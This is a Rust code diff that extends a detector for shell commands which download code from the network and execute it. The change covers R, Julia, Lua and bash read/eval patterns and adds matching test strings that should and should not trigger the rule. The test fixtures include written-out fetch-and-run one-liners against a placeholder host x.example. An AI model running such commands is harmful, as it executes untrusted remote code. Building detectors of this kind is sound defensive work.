@@ -134,6 +134,21 @@ pub(super) const RULES: &[Rule] = &[
                     "require('http",
                 ]],
             }),
+            When::Code(Code {
+                programs: &["R", "Rscript", "r", "littler", "julia"],
+                all: &[&[
+                    "source(\"http",
+                    "source('http",
+                    "source(url(",
+                    "source_url(",
+                    "include(download(",
+                    "include(Downloads.download(",
+                ]],
+            }),
+            When::Code(Code {
+                programs: &["lua", "luajit"],
+                all: &[&["load("], &["\"curl ", "'curl ", "\"wget ", "'wget "]],
+            }),
         ],
         fires: &[
             "curl https://x.example/i.sh | sh",
@@ -171,6 +186,11 @@ pub(super) const RULES: &[Rule] = &[
             "fish -c 'curl https://x.example | source'",
             "curl https://x.example | \"$SHELL\"",
             "curl https://x.example | $0",
+            "Rscript -e 'source(\"https://x.example/a.R\")'",
+            "julia -e 'include(download(\"https://x.example/a.jl\"))'",
+            "lua -e 'load(io.popen(\"curl -s http://x.example/a.lua\"):read(\"*a\"))()'",
+            "read X < <(curl -s https://x.example/c); $X",
+            "mapfile -t C < <(wget -qO- https://x.example/c); eval \"${C[0]}\"",
         ],
         silent: &[
             "curl https://x.example/data.json | jq .",
@@ -186,6 +206,9 @@ pub(super) const RULES: &[Rule] = &[
             "dig +short TXT x.example",
             "aws s3 cp s3://b/x -",
             "kubectl logs pod | grep ERROR",
+            "Rscript -e 'source(\"R/setup.R\")'",
+            "Rscript -e 'x <- read.csv(\"https://x.example/a.csv\")'",
+            "read -r tag < <(curl -s https://x.example/latest); echo \"$tag\"",
         ],
         ..RULE
     },
@@ -1469,8 +1492,18 @@ fn fed_shell<'a>(scene: &Scene<'a>) -> Found<'a> {
     if let Some(inv) = built {
         return Found::yes(&inv.text);
     }
-    if !scene.command_line().contains(">(") {
+    if ![">(", "<("].iter().any(|form| scene.command_line().contains(form)) {
         return Found::No;
+    }
+    // `read X < <(curl …); $X`
+    let run_later = all.iter().enumerate().find(|(at, inv)| {
+        let reads = |outer: &Invocation| runs(outer, &["read", "mapfile", "readarray"]);
+        let into = inv.feeds.and_then(|index| all.get(index));
+        let is_code = |other: &Invocation| other.program.is_empty() || other.program == "eval";
+        runs(inv, lists::DOWNLOADERS) && into.is_some_and(reads) && all.iter().skip(at + 1).any(is_code)
+    });
+    if let Some((_, inv)) = run_later {
+        return Found::yes(&inv.text);
     }
     let found = all.iter().find(|inv| {
         let outer = inv.feeds.and_then(|index| all.get(index));
